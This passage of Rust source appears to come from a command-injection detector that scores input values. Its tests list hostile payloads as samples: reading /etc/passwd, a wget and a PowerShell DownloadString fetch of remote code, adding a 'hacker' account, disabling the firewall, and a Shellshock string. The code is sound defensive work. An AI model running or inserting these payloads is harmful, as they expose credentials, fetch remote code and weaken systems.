}

/// True when the text after the command `cmd` reads like shell rather than a sentence.
fn shell_like_rest(cmd: &[u8], rest: &[u8]) -> bool {
    let trimmed = rest.trim_ascii_start();
    let Some(&first) = trimmed.first() else {
        return true;
    };
    if matches!(
        first,
        b';' | b'|'
            | b'&'
            | b'`'
            | b')'
            | b'>'
            | b'<'
            | b'-'
            | b'/'
            | b'$'
            | b'%'
            | b'~'
            | b'\\'
            | b'\''
            | b'"'
            | b'#'
            | b'\n'
            | b'\r'
            | b'*'
            | b'{'
            | b'}'
            | b'+'
    ) {
        return true;
    }
    if first.is_ascii_digit() {
        return true;
    }
    let tok = first_token(trimmed);
    // `c:\`, `c:/`, a file name with an extension, a subcommand (`net user`), a hive.
    (tok.len() >= 2 && tok[0].is_ascii_alphabetic() && tok[1] == b':')
        || tok.eq_ignore_ascii_case(b"user")
        || tok.eq_ignore_ascii_case(b"localgroup")
        || tok.contains(&b'/')
        || tok.contains(&b'\\')
        || tok.contains(&b'=')
        || file_name(tok)
        || subcommand(cmd, tok)
        || registry_hive(tok)
        || which_argument(cmd, trimmed)
}

/// `config.php`, `shop.pl|`, `notes.txt;`: a file's name with an extension (of letters, at
/// most five), up to a separator; not `toys.` at a sentence's end nor a version (`v1.2`).
fn file_name(tok: &[u8]) -> bool {
    let end = tok
        .iter()
        .position(|c| matches!(c, b';' | b'|' | b'&' | b'<' | b'>'))
        .unwrap_or(tok.len());
    let name = &tok[..end];
    let Some(dot) = name.iter().rposition(|&c| c == b'.') else {
        return false;
    };
    let (base, ext) = (&name[..dot], &name[dot + 1..]);
    !base.is_empty()
        && base
            .iter()
            .all(|c| c.is_ascii_alphanumeric() || matches!(c, b'_' | b'-' | b'.'))
        && (1..=5).contains(&ext.len())
        && ext.iter().all(u8::is_ascii_alphanumeric)
        && ext.iter().any(u8::is_ascii_alphabetic)
}

/// `which curl`, `whereis nc`: one command name after `which`, and nothing after it.
fn which_argument(cmd: &[u8], rest: &[u8]) -> bool {
    if cmd != b"which" && cmd != b"whereis" {
        return false;
    }
    let mut word = names::Word::new();
    let end = read_word(rest, 0, &mut word);
    if word.len == 0 || !rest[end..].trim_ascii().is_empty() {
        return false;
    }
    let name = word.as_bytes();
    match names::lookup_word(&word).map(|(kind, _)| kind) {
        Some(Kind::Distinct | Kind::DistinctWord | Kind::Program | Kind::Short | Kind::Brand) => {
            true
        }
        // `which cat`, `which python`, but not "which time".
        Some(Kind::WordLike) => name.len() <= 3 || interpreter(name),
        _ => false,
    }
}

fn interpreter(name: &[u8]) -> bool {
    INTERPRETERS.iter().any(|i| i.as_bytes() == name)
}

/// The shell's arithmetic expansion at `at`: `$((` then numbers, variables and operators, then
/// `))` (`$((92+49))`, which scanners send to see the sum come back). Bounded to 64 bytes.
fn arithmetic(b: &[u8], at: usize) -> Option<Hit> {
    let body = &b[at + 3..b.len().min(at + 3 + 64)];
    let close = memchr::memmem::find(body, b"))")?;
    let expr = &body[..close];
    let allowed = |c: &u8| {
        c.is_ascii_alphanumeric()
            || matches!(
                c,
                b'_' | b'$' | b' ' | b'+' | b'-' | b'*' | b'/' | b'%' | b'(' | b')'
            )
            || matches!(
                c,
                b'<' | b'>' | b'=' | b'!' | b'&' | b'|' | b'^' | b'~' | b'?' | b':'
            )
    };
    let operator = expr.iter().any(|c| b"+-*/%<>=&|^".contains(c));
    (expr.iter().any(u8::is_ascii_digit) && operator && expr.iter().all(allowed)).then_some(Hit {
        level: 1,
        rule: "arithmetic-expansion",
        evidence: at..at + 3 + close + 2,
    })
}

/// A command at a separator: `;id`, `| cat /etc/passwd`, `$(whoami)`, `` `uname -a` ``.
fn after_separator(value: &str, at: usize, sep_len: usize) -> Option<Hit> {
    let b = value.as_bytes();
    let sep = b[at];
    let substitution = sep == b'`' || (sep == b'$' && sep_len == 2);
    if sep == b'$' && sep_len == 2 && b.get(at + 2) == Some(&b'(') {
        return arithmetic(b, at);
    }
    let mut i = at + sep_len;
    // Spaces, `+` (a form-encoded space the caller left), `(`, `{` and quotes may precede it.
    // At most a few: `{` is a separator too, and each must cost a bounded amount of work.
    let limit = b.len().min(i + 16);
    while i < limit && matches!(b[i], b' ' | b'\t' | b'+' | b'(' | b'{' | b'!') {
        i += 1;
    }
    let mut word = names::Word::new();
    let end = read_word(b, i, &mut word);
    if word.len == 0 {
        return None;
    }
    let name = word.as_bytes();
    // The word must end there: `;idea` is not `;id`.
    if b.get(end).is_some_and(u8::is_ascii_alphanumeric) {
        return None;
    }
    // `&sort=price` (a query string inside a value) names a parameter; for a shell it is an
    // assignment, which runs nothing, unless the variable is run afterwards:
    // `;CMD=$'{cmd}';$CMD`.
    if b.get(end) == Some(&b'=') {
        return runs_variable(b, &b[i..end], end).then_some(Hit {
            level: 1,
            rule: "shell-command",
            evidence: at..end,
        });
    }
    // Bounded windows on both sides keep the work per separator constant.
    let rest = &b[end..b.len().min(end + 128)];
    let (kind, has_subcommands) = names::lookup_word(&word)?;
    // Brace expansion (`{cat,/etc/passwd}`) is read below; any other word must end where its
    // name does (`data:image/png;base64,iVBOR...` runs no `base64`), and be written in a case
    // that runs.
    if sep != b'{' && (!word_ends_at(b, end) || !case_can_run(&b[i..end])) {
        return None;
    }
    let kind = match kind {
        // `reg add`, `sc query`: a subcommand makes even a word a command.
        Kind::Word | Kind::Brand | Kind::WordLike | Kind::Short
            if has_subcommands && subcommand(name, first_token(rest.trim_ascii_start())) =>
        {
            Kind::Distinct
        }
        // In a substitution even an ordinary word runs (`$(make)`, `` `history` ``); not a
        // word of one or two letters, which random symbols hold by chance (`` `bc` ``).
        Kind::Word | Kind::Brand if substitution && name.len() >= 3 => Kind::Word,
        Kind::Word | Kind::Brand => return None,
        k => k,
    };
    let distinct = kind.distinct();
    let evidence = at..end;
    if sep == b'{' {
        // Brace expansion: `{cat,/etc/passwd}`.
        return (rest.first() == Some(&b',')).then_some(Hit {
            level: 1,
            rule: "shell-command",
            evidence,
        });
    }
    if substitution {
        let closes = if sep == b'`' {
            memchr::memchr(b'`', rest).is_some()
        } else {
            memchr::memchr(b')', rest).is_some()
        };
        if distinct || closes {
            // Markdown spells code the same way: `type` in a sentence is not a command, nor
            // is an ordinary word (`date`) with any word beside it.
            let prose = words_around(b, at, end) >= if kind == Kind::Word { 1 } else { 3 };
            return Some(Hit {
                level: match kind {
                    _ if !prose || distinct => 1,
                    Kind::Program => 2,
                    _ => 3,
                },
                rule: "command-substitution",
                evidence,
            });
        }
        return None;
    }
    let tight = i == at + sep_len;
    let before = &b[at.saturating_sub(64)..at];
    let words_before = before
        .split(|c| c.is_ascii_whitespace())
        .filter(|w| w.iter().any(|c| c.is_ascii_alphabetic()))
        .count();
    if distinct {
        return Some(Hit {
            level: if shell_like_rest(name, rest) || words_before <= 2 {
                1
            } else {
                2
            },
            rule: "shell-command",
            evidence,
        });
    }
    if !shell_like_rest(name, rest) {
        return None;
    }
    if interpreter(name) {
        let arg = rest.trim_ascii_start();
        if !matches!(arg.first(), Some(b'-' | b'/' | b'\'' | b'"' | b'$' | b'`')) {
            return None;
        }
    }
    // A program or a word-like command after a separator, followed by shell: prose before it
    // lowers the confidence ("I lost my cat; id"), unless it sits tight against the separator.
    let rest_words = rest
        .split(|c| c.is_ascii_whitespace())
        .filter(|w| w.len() > 2 && w.iter().all(|c| c.is_ascii_alphabetic()))
        .count();
    // A one-letter command (`w`) with no option after it is as often a generated password's
    // noise (`x|w&9`, `k;w>`) as a command.
    let option = rest.first().is_some_and(u8::is_ascii_whitespace)
        && rest.trim_ascii_start().first() == Some(&b'-');
    // The last token before the separator: a word ("Books"), or an amount ("500", "20%"), not
    // an address.
    let word_before = before
        .trim_ascii_end()
        .rsplit(u8::is_ascii_whitespace)
        .next()
        .map(|t| t.strip_suffix(b"%").unwrap_or(t))
        .is_some_and(|w| {
            (w.len() >= 2 && w.iter().all(u8::is_ascii_alphanumeric))
                || (!w.is_empty()
                    && w.len() <= 6
                    && w.iter().all(|c| c.is_ascii_digit() || *c == b','))
        });
    // A word, a spaced `&`, `|` or `;`, and a command that is also a word of four letters or
    // more ending the value: "Books & more", "shoes | sort", "Q1 & date" are names and titles.
    // (`host; id`, `site & ls` stay commands.)
    let titled = name.len() >= 4
        && !tight
        && (sep == b';' || before.last().is_some_and(u8::is_ascii_whitespace))
        && word_before
        && rest.trim_ascii().is_empty();
    let level = if (name.len() == 1 && !option) || titled {
        3
    } else if (tight || words_before <= 2) && rest_words <= 3 {
        1
    } else if kind == Kind::Program {
        2
    } else {
        3
    };
    Some(Hit {
        level,
        rule: "shell-command",
        evidence,
    })
}

/// Whether `$name` stands where a command does (after `;`, `&`, `|`, a line break or `(`) in
/// the bytes of `b` after `from`, within a bounded window, and is followed by what ends or
/// extends a command word (the end, a separator, another expansion), not by prose
/// (`x=5; $x is the price`).
fn runs_variable(b: &[u8], name: &[u8], from: usize) -> bool {
    let window = &b[from..b.len().min(from + 256)];
    memchr::memchr_iter(b'$', window).any(|d| {
        let before = window[..d].trim_ascii_end();
        let after = &window[d + 1..];
        let rest = match after.strip_prefix(b"{") {
            Some(r) => r.strip_prefix(name).and_then(|r| r.strip_prefix(b"}")),
            None => after.strip_prefix(name),
        };
        let ends = rest.is_some_and(|r| {
            let arg = r.trim_ascii_start();
            matches!(
                r.first(),
                None | Some(b';' | b'&' | b'|' | b'\n' | b'\r' | b')' | b'`' | b'$' | b'<' | b'>')
            ) || (arg.len() < r.len() && matches!(arg.first(), Some(b'-' | b'/' | b'$')))
        });
        ends && matches!(
            before.last(),
            Some(b';' | b'&' | b'|' | b'\n' | b'(' | b'`')
        )
    })
}

/// An IPv4 address at the start of `tok`: `10.0.0.1`.
fn address(tok: &[u8]) -> bool {
    tok.first().is_some_and(u8::is_ascii_digit) && tok.iter().filter(|&&c| c == b'.').count() == 3
}

/// `5`, `10`, `30s`: a delay for `sleep` or `timeout`.
fn delay(tok: &[u8]) -> bool {
    let digits = tok.iter().take_while(|c| c.is_ascii_digit()).count();
    (1..=4).contains(&digits) && matches!(&tok[digits..], b"" | b"s" | b"m")
}

/// A value that is a command line by itself: `uname -a`, `ping -c 5 10.0.0.1`, `ls -la /tmp`,
/// `net user x y /add`, `dmesg`.
pub(super) fn leading_command(value: &str) -> Option<Hit> {
    let b = value.trim_ascii().as_bytes();
    if b.is_empty() || b.len() > 200 {
        return None;
    }
    let mut word = names::Word::new();
    let mut end = read_word(b, 0, &mut word);
    let mut start = 0;
    if word.len == 0 && matches!(b[0], b'\'' | b'"') {
        // `' whoami`: the value closes a quoted argument, then runs a command.
        start = b
            .iter()
            .take(8)
            .take_while(|c| matches!(c, b'\'' | b'"' | b' '))
            .count();
        end = read_word(b, start, &mut word);
    }
    if word.len == 0 || b.get(end).is_some_and(|c| c.is_ascii_alphanumeric()) {
        return None;
    }
    // `wget: unable to resolve host`, `dpkg: error processing`, `Dpkg::Arch`: a program's
    // message or a module path, not a command line (no shell runs `wget:`); `sort=price`: a
    // parameter, or for a shell an assignment, which runs nothing unless the variable is run
    // afterwards (`CMD=$"{cmd}";$CMD`).
    let offset = value.len() - value.trim_ascii_start().len();
    if matches!(b.get(end), Some(b':' | b'=')) {
        let runs = b[end] == b'=' && runs_variable(b, &b[start..end], end);
        return runs.then_some(Hit {
            level: 1,
            rule: "shell-command",
            evidence: offset + start..offset + end,
        });
    }
    // Most values are turned away here, by one look-up of their first word.
    let name = word.as_bytes();
    let (kind, has_subcommands) = names::lookup_word(&word)?;
    if !word_ends_at(b, end) || !case_can_run(&b[start..end]) {
        return None;
    }
    let rest = b[end..].trim_ascii_start();
    let hit = |level| {
        Some(Hit {
            level,
            rule: "shell-command",
            evidence: offset + start..offset + end,
        })
    };
    if rest.is_empty() {
        // A bare command name: a probe, certain only for a name that is no word. A path to a
        // file named like a command (`../../etc/passwd`) is not one, unless its directory holds
        // programs (`/bin/id`, `/usr/sbin/useradd`).
        let read = &b[start..end];
        let level = match read.iter().rposition(|&c| c == b'/') {
            Some(slash) if !ends_ci(read, slash, b"bin") => kind.alone().max(2),
            _ => kind.alone(),
        };
        // `MSG's`: a possessive, whose quote the shell would wait to see closed.
        let open = |q: u8| read.iter().filter(|&&c| c == q).count() % 2 == 1;
        if open(b'\'') || open(b'"') {
            return hit(level.max(3));
        }
        return hit(level);
    }
    let subs = if has_subcommands {
        subcommands_of(name)
    } else {
        None
    };
    if matches!(kind, Kind::Word | Kind::Brand) && subs.is_none() {
        return None;
    }
    let tok = first_token(rest);
    // `reg add`, `sc query`: a subcommand makes even a word a command.
    let sub = subs.is_some_and(|subs| subs.iter().any(|s| s.as_bytes().eq_ignore_ascii_case(tok)));
    if matches!(kind, Kind::Word | Kind::Brand) && !sub {
        return None;
    }
    let words = rest
        .split(|c| c.is_ascii_whitespace())
        .filter(|w| !w.is_empty())
        .count();
    if words <= 16 && (sub || registry_hive(tok)) {
        return hit(1);
    }
    if matches!(kind, Kind::Word | Kind::Brand) {
        return None;
    }
    if ((name == b"sleep" || name == b"timeout") && words == 1 && delay(tok))
        || which_argument(name, rest)
    {
        return hit(1);
    }
    if words > 5 {
        return None;
    }
    let first = rest[0];
    let distinct = kind.no_word();
    let path_from_root = b[start] == b'/';
    // `-la`; `/all`, `/c` (a Windows switch: letters only, so not a path like `/etc/passwd`).
    let option = (first == b'-' && rest.get(1).is_some_and(u8::is_ascii_alphabetic))
        || (first == b'/'
            && tok.len() >= 2
            && tok[1..].iter().all(u8::is_ascii_alphabetic)
            && tok.len() <= 16);
    let var = first == b'%' || first == b'$';
    let path_arg = first == b'/' || first == b'~' || (rest.len() > 2 && rest[1] == b':');
    if name.len() == 1 && !option {
        // `w$x`, `w %y`: one letter before noise, as in a generated password.
        return None;
    }
    // A name of `DISTINCT` or a cmdlet followed by anything short: no sentence starts so.
    if option
        || var
        || kind == Kind::Distinct
        || address(tok)
        || windows_path(tok)
        || (path_arg && (distinct || path_from_root))
        || (distinct && url(tok))
    {
        return hit(1);
    }
    if path_arg || url(tok) {
        return hit(2);
    }
    None
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::screen::test_support::assert_linear;

    fn level(v: &str) -> Option<u8> {
        scan(v).map(|h| h.level)
    }

    #[test]
    fn injections_block() {
        for v in [
            ";id",
            "a);id|",
            "| cat /etc/passwd",
            "127.0.0.1 && whoami",
            "x`uname -a`",
            "$(wget http://x/s.sh)",
            "cat${IFS}/etc/passwd",
            ";c'a't /etc/passwd",
            ";w\"h\"oami",
            "{cat,/etc/passwd}",
            "& ping -n 30 127.0.0.1 &",
            "| cmd /c dir",
            "IEX (New-Object Net.WebClient).DownloadString('http://x')",
            "uname -a",
            "ls -la /tmp",
            "\n/bin/ls -al\n",
            "dmesg",
            "get-childitem",
            "Remove-PSDrive",
            "whoami",
            "' whoami",
            "\" whoami",
            "curl https://x.example/y.txt",
            "dir C:\\Users",
            "net user hacker Password1 /ADD",
            "| net view",
            "; sysinfo",
            "reg add \"HKLM\\Software\\X\" /v y /t REG_DWORD /d 0 /f",
            "netsh firewall set opmode disable",
            "sleep 5",
            "which curl",
            "() { :;}; echo vulnerable",
            "whoami.exe",
            "/usr/bin/whoami",
        ] {
            assert_eq!(level(v), Some(1), "{v}");
        }
    }

    #[test]
    fn prose_passes() {
        for v in [
            "Tom & Jerry; cats | dogs",
            "my cat is ill; id card lost",
            "please echo my request to the manager",
            "Skills: Java; Python; Perl",
            "R&D department | type of work: research",
            "cat",
            "id",
            "make",
            "history",
            "column",
            "set-up",
            "add-on",
            "read-only",
            "check-in",
            "python",
            "nginx",
            "which time",
            "sleep 8 hours a night",
            "function () { return x; }",
            "net income",
        ] {
            assert_ne!(level(v), Some(1), "{v}");
        }
    }

    #[test]
    fn a_bare_word_is_a_note_and_a_bare_program_blocks() {
        assert_eq!(level("make"), Some(4));
        assert_eq!(level("date"), Some(4));
        assert_eq!(level("bash"), Some(2));
        assert_eq!(level("gpg"), Some(2));
        assert_eq!(level("schtasks"), Some(1));
        assert_eq!(level("lpmove"), Some(1));
        assert_eq!(level("Siobhan O'Brien"), None);
        // A file named like a command is a path, not a probe.
        assert_eq!(level("../../../../etc/passwd"), Some(2));
        assert_eq!(level("/var/log/syslog"), Some(2));
    }

    /// [`scan`] without its prefilters: every keyword searched for, every value with a separator
    /// byte walked.
    fn scan_reference(value: &str) -> Option<Hit> {
        if let Some(h) = keyword(value) {
            return Some(h);
        }
        if !value.bytes().any(|c| META[usize::from(c)]) {
            return leading_command(value);
        }
        separators(value)
    }

    const PIECES: &[&str] = &[
        "net",
        ".",
        "webclient",
        "-",
        "invoke",
        "start",
        "sh ",
        "-encodedcommand",
        "(",
        ")",
        " ",
        "{",
        "}",
        ":",
        ";",
        "_",
        "iex",
        "cmd ",
        "cmd.exe ",
        "/",
        "c",
        "bin/",
        "dev/tcp/",
        "$",
        "ifs",
        "{ifs}",
        "9",
        "%",
        "comspec%",
        "<",
        "!--#exec",
        "!--#echo var",
        "!--#include ",
        "a",
        "ayesha",
        "@",
        "whoami",
        "dmesg",
        "get-childitem",
        "net user",
        "|",
        "&",
        "'",
        "\"",
        "\n",
        "`",
        "\\",
        "1",
        "downloadstring",
        "downloadfile",
        "reg add ",
        "HKLM\\",
        "which ",
        "curl",
        "sleep 5",
        "C:\\",
        "https://x",
        "é",
        "کارڈ",
    ];

    proptest::proptest! {
        #![proptest_config(proptest::prelude::ProptestConfig::with_cases(20000))]
        #[test]
        fn prefilters_agree_with_the_full_path(
            idx in proptest::collection::vec(0..PIECES.len(), 0..16)
        ) {
            let v: String = idx.iter().map(|&i| PIECES[i]).collect();
            proptest::prop_assert_eq!(scan(&v), scan_reference(&v), "{:?}", v);
            let b = v.as_bytes();
            let classes = b.iter().fold(0u8, |m, &c| m | BYTES[usize::from(c)]);
            let short = classes & KEYWORD != 0 && short_may_have_keyword(b, classes);
            proptest::prop_assert_eq!(short, may_have_keyword(b), "{:?}", v);
            if keyword(&v).is_some() {
                proptest::prop_assert!(short, "{:?}", v);
            }
        }

        #[test]
        fn any_position_finds_every_place(
            b in proptest::collection::vec(proptest::prelude::any::<u8>(), 0..70),
            byte in 1u8..=255,
        ) {
            let mut seen = Vec::new();
            any_position(&b, byte, |p| {
                seen.push(p);
                false
            });
            let want: Vec<usize> = (0..b.len()).filter(|&p| b[p] == byte).collect();
            proptest::prop_assert_eq!(seen, want);
        }
    }

    #[test]
    fn a_key_named_like_a_command_is_no_probe() {
        for k in ["passwd", "uname", "hostname", "get-childitem"] {
            assert_eq!(scan(k).map(|h| h.level), Some(1), "{k}");
            assert_eq!(scan_key(k).map(|h| h.level), Some(2), "{k}");
        }
        assert_eq!(scan_key(";id").map(|h| h.level), Some(1));
        assert_eq!(scan_key("name"), None);
    }

    #[test]
    fn big_inputs_are_fast_and_safe() {
        for unit in [
            ";", ";id ", "$", "${", "`", "{", "a", "; cat ", "\\n", "'", "$(", "|/", "() {", "(",
            "' ", "net ",
        ] {
            assert_linear(
                &|v| {
                    let _ = scan(v);
                },
                unit,
            );
        }
    }
}
